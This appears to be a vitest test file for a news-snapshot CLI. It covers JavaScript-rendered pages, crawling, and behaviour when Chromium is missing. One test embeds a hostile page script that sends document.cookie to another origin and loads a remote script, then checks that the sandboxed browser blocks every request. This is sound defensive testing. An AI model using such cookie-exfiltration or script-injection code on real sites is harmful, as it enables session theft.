import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MirrorServer } from '../src/mirror/index.js';
import { logRecords, runCli } from './helpers/cli.js';
import { compareWithMirror } from './helpers/mirror.js';
import { REFERENCE_CASES } from './helpers/paths.js';
import { tempDir } from './helpers/storage.js';

const JS_CASE = REFERENCE_CASES.find((c) => c.id === '1100000002')!;
const SEED_CASE = REFERENCE_CASES[0]!;
const env = { NEWSNAP_CRAWL_RATE: '0', NEWSNAP_NOW: '2025-12-15T12:00:00Z' };
const pathOf = (u: string) => new URL(u).pathname;

/** A server that must never hear from the browser: another origin on loopback. */
async function listener(host: string): Promise<{ server: Server; hits: string[]; url: string }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('secret');
  });
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  return { server, hits, url: `http://${host}:${(server.address() as AddressInfo).port}` };
}

let mirror: MirrorServer;
let origin: string;
let others: Array<Awaited<ReturnType<typeof listener>>>;

beforeAll(async () => {
  mirror = new MirrorServer({ articles: 40, days: 3, jsEvery: 4, lastDay: '20251215', crawlDelay: 0 });
  mirror.addPage(pathOf(JS_CASE.url), readFileSync(JS_CASE.page, 'utf8'));
  mirror.addPage(pathOf(SEED_CASE.url), readFileSync(SEED_CASE.page, 'utf8'));
  origin = await mirror.listen();
  others = [await listener('127.0.0.1'), await listener('127.0.0.2')];
});
afterAll(async () => {
  await mirror.close();
  for (const o of others) await new Promise((r) => o.server.close(r));
});

describe('browser render fallback', () => {
  it('the JavaScript-built reference page gives its expected snapshot with the default policy', async () => {
    const res = await runCli(['fetch', JS_CASE.url, '--stdout', '--origin', origin], { env });
    expect(res.code, res.stderr.slice(-1500)).toBe(0);
    expect(res.stdout.equals(readFileSync(JS_CASE.expected))).toBe(true);
  });

  it('with --render never it is not an article (empty body): exit 5', async () => {
    const res = await runCli(['fetch', JS_CASE.url, '--stdout', '--render', 'never', '--origin', origin], { env });
    expect(res.code).toBe(5);
    expect(res.stdout.length).toBe(0);
    expect(res.stderr).toContain(`not an article (empty-body) ${JS_CASE.url}`);
  });

  it('a crawl with JavaScript-built articles snapshots all of them; no image, font, stylesheet or third-party request reaches the mirror', async () => {
    const storage = await tempDir();
    mirror.clearLog();
    const res = await runCli(['crawl', '--since', '20251213', '--origin', origin, '--storage', storage, '--concurrency', '4'], { env });
    expect(res.code, res.stderr.slice(-2000)).toBe(0);
    expect(mirror.all().filter((a) => a.jsBuilt).length).toBeGreaterThanOrEqual(8);
    expect(await compareWithMirror(storage, mirror.all())).toEqual([]);
    const paths = mirror.log.map((r) => r.path);
    expect(paths.filter((p) => /\.(gif|png|jpe?g|webp|svg|woff2?|ttf|css)(\?|$)/.test(p) || p.startsWith('/i/'))).toEqual([]);
    // Each JavaScript-built page: one static fetch and one browser navigation.
    for (const a of mirror.all().filter((x) => x.jsBuilt)) expect(paths.filter((p) => p === `/${a.day}/${a.slug}-${a.id}.html`)).toHaveLength(2);
  });

  it("a page's script cannot reach another origin or address: those requests never leave the browser", async () => {
    const [otherPort, otherHost] = others;
    const path = '/20251215/sizinti-1109999999.html';
    const page = readFileSync(JS_CASE.page, 'utf8');
    const scriptStart = page.indexOf("<script>\ndocument.addEventListener('DOMContentLoaded'");
    const scriptEnd = page.indexOf('</script>', scriptStart) + '</script>'.length;
    expect(scriptStart).toBeGreaterThan(0);
    // The page builds its body only after every attempt to leave the site has settled.
    const hostile = `<script>
document.addEventListener('DOMContentLoaded', function () {
  var attempts = [
    fetch('${otherPort!.url}/exfil?c=' + document.cookie).catch(function () {}),
    fetch('${otherHost!.url}/private').catch(function () {}),
    new Promise(function (r) { var i = new Image(); i.onload = i.onerror = r; i.src = '${otherPort!.url}/pixel.gif'; }),
    new Promise(function (r) { try { var w = new WebSocket('${otherPort!.url.replace('http', 'ws')}/ws'); w.onerror = w.onclose = r; } catch (e) { r(); } }),
    new Promise(function (r) { var s = document.createElement('script'); s.src = '${otherHost!.url}/x.js'; s.onload = s.onerror = r; document.head.appendChild(s); })
  ];
  Promise.all(attempts).then(function () {
    var body = document.getElementById('article-body');
    JSON.parse(document.getElementById('article-blocks').textContent).forEach(function (b) {
      var block = document.createElement('div');
      block.className = 'article__block';
      block.setAttribute('data-type', b.type);
      var inner = document.createElement(b.type === 'h2' ? 'h3' : 'div');
      inner.className = b.type === 'h2' ? 'article__h2' : 'article__text';
      inner.innerHTML = b.html;
      block.appendChild(inner);
      body.appendChild(block);
    });
  });
});
</script>`;
    const html = page.slice(0, scriptStart) + hostile + page.slice(scriptEnd);
    mirror.addPage(path, html.replace(/1100000002/g, '1109999999').replace(/kis-lastigi-uygulamasi-bugun-basladi/g, 'sizinti'));
    const res = await runCli(['fetch', `https://anlatilaninotesi.com.tr${path}`, '--stdout', '--origin', origin], { env });
    expect(res.code, res.stderr.slice(-1500)).toBe(0);
    expect(res.stdout.toString()).toContain('Uygulama nisan ayına kadar sürecek');
    expect(otherPort!.hits).toEqual([]);
    expect(otherHost!.hits).toEqual([]);
  });

  it('without Chromium: one warning at start, the page that needs it fails with the reason, the rest works', async () => {
    const storage = await tempDir();
    const res = await runCli(['fetch', JS_CASE.url, SEED_CASE.url, '--origin', origin, '--storage', storage], {
      env: { ...env, NEWSNAP_RENDER_CHROMIUM_PATH: '/nonexistent/chromium' },
    });
    expect(res.code).toBe(1);
    const warnings = logRecords(res.stderr).filter((r) => typeof r.msg === 'string' && (r.msg as string).startsWith('Chromium not found'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatchObject({ level: 40, chromiumPath: '/nonexistent/chromium' });
    const out = res.stdout.toString();
    expect(out).toContain(`failed ${JS_CASE.url}: the page needs a browser render, but Chromium not found at /nonexistent/chromium`);
    expect(out).toContain(`written snapshots/2025-12-20/1102014239.txt ${SEED_CASE.url}`);
  });
});
